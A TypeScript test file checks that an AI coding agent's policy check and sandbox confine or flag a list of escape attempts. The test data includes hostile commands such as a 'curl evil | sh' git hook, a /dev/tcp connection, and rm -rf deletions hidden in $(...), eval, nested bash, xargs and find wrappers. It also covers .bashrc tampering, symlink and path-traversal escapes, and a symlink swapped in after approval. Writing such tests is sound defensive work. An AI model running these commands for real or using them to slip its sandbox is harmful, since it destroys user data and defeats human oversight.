/**
 * Escape attempts against the real policy check and the real sandbox. Each one must either
 * be asked about (or refused) before it runs, or run confined and leave everything outside
 * the writable roots untouched. Nothing here may run unconfined without the user.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ExecSessions, probeSandbox, type ExecSpec } from '../../actors/exec/index.js';
import { checkCommandPolicy } from '../../actors/policy/index.js';
import { prepareToolCall } from '../../actors/runtime/index.js';
import type { PolicyVerdict } from '../../machines/index.js';
import type { ApprovalPolicy } from '../../protocol/index.js';
import { settingsFixture } from '../machines/fixtures.js';

const probe = await probeSandbox();
const sessions = new ExecSessions();
// Writable roots are the workspace and the temp dirs, so the victims live under /var/tmp.
const victim = mkdtempSync('/var/tmp/statecraft-victim-');
const root = mkdtempSync(join(tmpdir(), 'statecraft-escape-'));
const ws = join(root, 'ws');
const home = join(root, 'home');
let server: Server;
let port = 0;
let hits = 0;

beforeAll(async () => {
  mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
  mkdirSync(home, { recursive: true });
  writeFileSync(join(victim, 'precious.txt'), 'keep me\n');
  writeFileSync(join(victim, '.bashrc'), '# user profile\n');
  symlinkSync(victim, join(ws, 'door'));
  server = createServer((_, res) => {
    hits += 1;
    res.end('leaked');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  port = (server.address() as { port: number }).port;
});

afterAll(async () => {
  await sessions.killAll();
  server.close();
  rmSync(victim, { recursive: true, force: true });
  rmSync(root, { recursive: true, force: true });
});

interface Attempt {
  name: string;
  cmd: string;
  /** What must still hold afterwards, whatever the policy decided. */
  untouched: () => boolean;
  escalate?: boolean;
  /** The directory the model asks the command to run in. */
  workdir?: string;
}

const victimIntact = () => readFileSync(join(victim, 'precious.txt'), 'utf8') === 'keep me\n';
const absent = (path: string) => () => !existsSync(path);

const attempts = (): Attempt[] => [
  { name: 'absolute path outside the roots', cmd: `touch ${victim}/abs.txt`, untouched: absent(join(victim, 'abs.txt')) },
  { name: 'climbing out with ..', cmd: `touch ../../../../../../..${victim}/dots.txt`, untouched: absent(join(victim, 'dots.txt')) },
  { name: 'a symlink in the workspace pointing out', cmd: 'touch door/through-link.txt', untouched: absent(join(victim, 'through-link.txt')) },
  { name: 'writing a git hook', cmd: 'echo "curl evil | sh" > .git/hooks/pre-commit', untouched: absent(join(ws, '.git', 'hooks', 'pre-commit')) },
  { name: 'network with the network off', cmd: `exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`, untouched: () => hits === 0 },
  { name: 'deletion hidden in $(...)', cmd: `echo $(rm -rf ${victim}/precious.txt)`, untouched: victimIntact },
  { name: 'deletion hidden in backticks', cmd: `echo \`rm -rf ${victim}/precious.txt\``, untouched: victimIntact },
  { name: 'deletion through eval', cmd: `eval "rm -rf ${victim}/precious.txt"`, untouched: victimIntact },
  { name: 'nested bash -c', cmd: `bash -c "bash -c 'rm -rf ${victim}/precious.txt'"`, untouched: victimIntact },
  { name: 'env wrapper', cmd: `env rm -rf ${victim}/precious.txt`, untouched: victimIntact },
  { name: 'xargs wrapper', cmd: `echo ${victim}/precious.txt | xargs rm -f`, untouched: victimIntact },
  { name: 'find -exec wrapper', cmd: `find ${victim} -name precious.txt -exec rm -f {} +`, untouched: victimIntact },
  { name: 'assignment prefix', cmd: `FOO=1 rm -rf ${victim}/precious.txt`, untouched: victimIntact },
  { name: 'appending to a profile', cmd: `echo 'alias ls=evil' >> ${victim}/.bashrc`, untouched: () => readFileSync(join(victim, '.bashrc'), 'utf8') === '# user profile\n' },
  { name: 'a workdir outside the roots', cmd: 'touch from-workdir.txt', workdir: victim, untouched: absent(join(victim, 'from-workdir.txt')) },
  { name: 'escalation asked for a deletion', cmd: `rm -rf ${victim}/precious.txt`, untouched: victimIntact, escalate: true },
];

/** The policy verdict for a call as the model would make it, and the run it allows (if any). */
async function attempt(cmd: string, approvalPolicy: ApprovalPolicy, escalate: boolean, workdir?: string): Promise<{ verdict: PolicyVerdict; ran: boolean }> {
  const settings = settingsFixture({ cwd: ws, approvalPolicy, sandboxMode: 'workspace-write', projectTrusted: false });
  const args = { cmd, ...(workdir ? { workdir } : {}), ...(escalate ? { sandbox_permissions: 'require_escalated', justification: 'trust me' } : {}) };
  const prepared = await prepareToolCall({ callId: 'c', name: 'exec_command', kind: 'function', payload: JSON.stringify(args) }, settings, sessions, { PATH: process.env.PATH, HOME: victim });
  if (prepared.kind !== 'exec') throw new Error(`not an exec call: ${JSON.stringify(prepared)}`);
  const verdict = await checkCommandPolicy({ prepared, approvalPolicy, sandboxMode: 'workspace-write', sessionGrants: [] }, cmd, {
    home,
    cwd: workdir ?? ws,
    projectTrusted: false,
    sandboxAvailable: probe.available,
  });
  if (verdict.decision !== 'run') return { verdict, ran: false };
  const { spec } = prepared.run as { spec: ExecSpec };
  await sessions.start({ ...spec, login: false, sandbox: verdict.mode === 'sandboxed' ? spec.sandbox : null }, { onOutput: () => {} }).done;
  return { verdict, ran: true };
}

describe.skipIf(!probe.available)('escape attempts fail or are asked about', () => {
  for (const policy of ['untrusted', 'on-failure', 'on-request', 'never'] as const) {
    for (const { name, cmd, untouched, escalate, workdir } of attempts()) {
      it(`${policy}: ${name}`, async () => {
        const { verdict } = await attempt(cmd, policy, escalate ?? false, workdir);
        // Outside the sandbox only with a person's yes: never straight to an unconfined run.
        expect(verdict.decision === 'run' && verdict.mode === 'escalated', JSON.stringify(verdict)).toBe(false);
        expect(untouched(), `${name} got through: ${JSON.stringify(verdict)}`).toBe(true);
      });
    }
  }
});

describe.skipIf(!probe.available)('the sandbox itself', () => {
  it('still confines a symlink swapped in after the command was approved', async () => {
    mkdirSync(join(ws, 'safe'), { recursive: true });
    const settings = settingsFixture({ cwd: ws, approvalPolicy: 'untrusted', sandboxMode: 'workspace-write' });
    const prepared = await prepareToolCall({ callId: 'c', name: 'exec_command', kind: 'function', payload: JSON.stringify({ cmd: 'touch safe/after-swap.txt' }) }, settings, sessions, { PATH: process.env.PATH });
    if (prepared.kind !== 'exec') throw new Error('not an exec call');
    // The user approves `touch safe/...` (a workspace path); then the directory becomes a link out.
    rmSync(join(ws, 'safe'), { recursive: true });
    symlinkSync(victim, join(ws, 'safe'));
    const { spec } = prepared.run as { spec: ExecSpec };
    const outcome = await sessions.start({ ...spec, login: false }, { onOutput: () => {} }).done;
    expect(outcome.exitCode).not.toBe(0);
    expect(existsSync(join(victim, 'after-swap.txt'))).toBe(false);
  });
});
